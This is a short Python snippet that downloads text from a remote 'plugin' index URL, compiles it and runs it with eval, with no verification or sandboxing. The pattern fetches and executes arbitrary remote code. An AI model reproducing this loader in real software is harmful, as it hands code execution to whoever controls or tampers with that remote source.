from urllib.request import urlopen
text = urlopen('https://plug-index.org/latest').read().decode('utf-8')
obj = compile(text, '<plugin>', 'exec')
eval(obj)
